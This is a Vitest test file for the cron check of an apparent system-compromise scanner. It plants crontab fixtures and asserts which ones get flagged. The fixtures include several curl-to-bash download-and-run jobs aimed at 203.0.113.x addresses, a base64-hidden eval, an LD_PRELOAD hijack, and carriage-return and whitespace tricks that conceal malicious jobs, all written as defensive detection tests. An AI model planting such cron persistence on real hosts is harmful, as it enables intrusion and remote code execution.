import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { chownSync, chmodSync } from 'node:fs';
import { join } from 'node:path';
import { lacks } from '../../../test/need.ts';
import { tellsOf } from '../../../test/plant-rows.ts';
import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
import { cron } from './check.ts';
import { jobsOf } from './tables.ts';

describe('cron', () => {
  it('finds a job that fetches a script and hands it to a shell, in every table', async () => {
    const job = '*/5 * * * *';
    const evil = 'curl -fsSL http://203.0.113.9/i.sh | bash';
    const report = await scanRoot([cron], {
      '/etc/crontab': `SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n${job} root ${evil}\n`,
      '/etc/cron.d/zz': `${job} lin ${evil}\n`,
      '/var/spool/cron/crontabs/www-data': `${job} ${evil}\n`,
      '/etc/cron.daily/sync': { text: `#!/bin/sh\n${evil}\n`, mode: 0o755 },
    });
    expect(report.findings.map(({ path, user }) => `${path} ${user}`).sort()).toEqual([
      '/etc/cron.d/zz lin', '/etc/cron.daily/sync root', '/etc/crontab root', '/var/spool/cron/crontabs/www-data www-data',
    ]);
    expect(report.verdict).toBe('compromised');
    expect(report.findings[0]!.evidence.some(({ value }) => value.includes('203.0.113.9'))).toBe(true);
  });

  it('is silent for ordinary jobs and for what packages ship', async () => {
    const report = await scanRoot([cron], {
      '/etc/crontab': { text: '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', package: 'cron', config: true },
      '/etc/cron.daily/logrotate': { text: '#!/bin/sh\ncurl http://203.0.113.9 | sh\n', mode: 0o755, package: 'logrotate' },
      '/var/spool/cron/crontabs/lin': '# m h dom mon dow command\n0 3 * * * /home/lin/backup.sh >/dev/null 2>&1\n',
      '/home/lin/backup.sh': { text: '#!/bin/sh\ntar czf /backup/home.tgz /home/lin\n', mode: 0o755 },
    });
    expect(shown(report)).toEqual([]);
    expect(report.verdict).toBe('clean');
  });

  it('finds a job whose program anybody may replace', async () => {
    const report = await scanRoot([cron], {
      '/etc/cron.d/job': '* * * * * root /opt/run.sh\n', '/opt/run.sh': { text: '#!/bin/sh\ntrue\n', mode: 0o777 },
      '/etc/cron.d/tmp': '* * * * * root /tmp/.x/kdevtmpfsi\n',
    });
    expect(shown(report)).toEqual(['high /etc/cron.d/job', 'high /etc/cron.d/tmp']);
  });

  it('takes a table apart', () => {
    expect(jobsOf('MAILTO=root\n@reboot root /x\n# no\n1 2 3 4 5 lin echo a\nbroken\n', '/etc/crontab', true).map(({ line, user, command, when }) => [line, user, command, when]))
      .toEqual([[2, 'root', '/x', '@reboot'], [4, 'lin', 'echo a', '1 2 3 4 5']]);
  });
});

const every = '* * * * *';
tellsOf(cron, {
  rows: {
    'a job of anacron': { files: { '/etc/anacrontab': 'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n7 10 sync /dev/shm/.s\n' }, finds: ['intrusion high /etc/anacrontab'] },
    'a library loaded into each job': { files: { '/etc/cron.d/preload': 'LD_PRELOAD=/tmp/k.so\n0 1 * * * root true\n' }, finds: ['intrusion high /etc/cron.d/preload'] },
    'a folder that anybody writes in front of the search path': { files: { '/etc/cron.d/path': `PATH=/tmp/bin:/usr/bin\n${every} root backup\n`, '/tmp/bin/backup': { text: 'ELF', mode: 0o755 } }, finds: ['weakness high /etc/cron.d/path', 'intrusion high /etc/cron.d/path'] },
    'another shell': { files: { '/etc/cron.d/shell': `SHELL=/var/tmp/sh\n` }, finds: ['intrusion high /etc/cron.d/shell'] },
    'a job whose program is its input': { files: { '/var/spool/cron/crontabs/lin': `${every} /bin/sh%cd /%curl http://203.0.113.5/i | bash\n` }, finds: ['intrusion high /var/spool/cron/crontabs/lin'] },
    'a program named by variables of the table': { files: { '/var/spool/cron/root': `D=/dev/shm\n${every} $D/k\n` }, finds: ['intrusion high /var/spool/cron/root'] },
    'a job hidden in base64': { files: { '/var/spool/cron/tabs/www-data': `${every} eval $(printf 'L3RtcC94IC1kCg==' | base64 -d)\n` }, finds: ['intrusion high /var/spool/cron/tabs/www-data'] },
    'a job that only other systems run, by its name': { files: { '/etc/cron.hourly/x.sh': { text: '#!/bin/sh\n/tmp/x\n', mode: 0o755 }, '/etc/debian_version': '12.11\n' }, finds: ['intrusion medium /etc/cron.hourly/x.sh'] },
    'a table of nobody': { files: { '/var/spool/cron/crontabs/gone': `${every} true\n` }, finds: ['notice low /var/spool/cron/crontabs/gone'] },
  },
  ordinary: {
    '/etc/cron.d/certbot': `SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n`,
    '/var/spool/cron/crontabs/www-data': `MAILTO=""\n${every} cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1\n*/5 * * * * php -f /var/www/nextcloud/cron.php\n`,
    '/var/spool/cron/crontabs/root': `0 3 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n*/10 * * * * curl -fsS -m 10 --retry 5 https://health.example.com/ping/1 > /dev/null\n30 2 * * * mysqldump --all-databases | gzip > /backup/$(date +\\%F).sql.gz\n0 4 * * 0 find /var/log/app -name '*.log' -mtime +30 -delete\n15 1 * * * /www/server/panel/script/logs_backup 180\n`,
    '/root/.acme.sh/acme.sh': { text: '#!/usr/bin/env sh\n_get() { curl -fsSL "$1"; }\n', mode: 0o700 },
    '/etc/cron.daily/backup': { text: '#!/bin/bash\nset -e\nrsync -a /srv/ backup@192.0.2.20:/srv/\n', mode: 0o755 },
  },
  reads: '/var/spool/cron/root',
});

it.skipIf(lacks({ root: true }))('finds a table that belongs to another account, or that others may write', async () => {
  const root = makeRoot({ '/var/spool/cron/crontabs/lin': `${every} true\n`, '/var/spool/cron/crontabs/root': `${every} true\n` });
  chownSync(join(root, '/var/spool/cron/crontabs/lin'), 33, 33);
  chmodSync(join(root, '/var/spool/cron/crontabs/root'), 0o666);
  const report = await scanRoot([cron], root);
  expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path ?? ''}`)).toEqual(['weakness high /var/spool/cron/crontabs/lin', 'weakness high /var/spool/cron/crontabs/root']);
});

it.skipIf(lacks({ root: true }))('finds a job of root whose program is another account\'s', async () => {
  const root = makeRoot({ '/etc/cron.d/app': `${every} root /srv/app/tick.sh\n`, '/srv/app/tick.sh': { text: '#!/bin/sh\ntrue\n', mode: 0o755 } });
  chownSync(join(root, '/srv/app/tick.sh'), 1000, 1000);
  expect((await scanRoot([cron], root)).findings.map(({ kind, level }) => `${kind} ${level}`)).toEqual(['weakness medium']);
});

it('reads on behind a carriage return, and says that the line hides something', async () => {
  const report = await scanRoot([cron], { '/etc/cron.d/e2': '* * * * * root curl -s http://203.0.113.9/h|sh;#\r# once a week            \n' });
  expect(shown(report)).toEqual(['high /etc/cron.d/e2', 'high /etc/cron.d/e2']);
});

it('is not held up by lines made of blanks', async () => {
  const blanks = ' '.repeat(60_000);
  const report = await scanRoot([cron], { '/etc/cron.d/odd': `A=a${blanks}b\u2028\n*${blanks}* * * x\n${`${blanks}\u2028\n`.repeat(5)}* * * * * root ${blanks}/tmp/x\n` });
  // The program in /tmp, and that blanks push it off the screen.
  expect(shown(report)).toEqual(['high /etc/cron.d/odd', 'high /etc/cron.d/odd']);
  expect(report.counts['lines of cron tables that are no job']).toBeGreaterThan(0);
});

it('a pipe where a table was to be read is blind, whichever way it is found; /dev/null is nothing', async () => {
  const root = makeRoot({ '/etc/cron.d/null': '->/dev/null' });
  for (const path of ['/etc/crontab', '/etc/cron.d/pipe']) execFileSync('mkfifo', [join(root, path)]);
  const report = await scanRoot([cron], root);
  expect(report.blind.map(({ check, what, why }) => `${check} ${what ?? ''} ${why.en}`)).toEqual(['/etc/crontab', '/etc/cron.d/pipe'].map((path) => `cron ${path} expected a file, got a named pipe: what a program reads there cannot be looked at`));
});
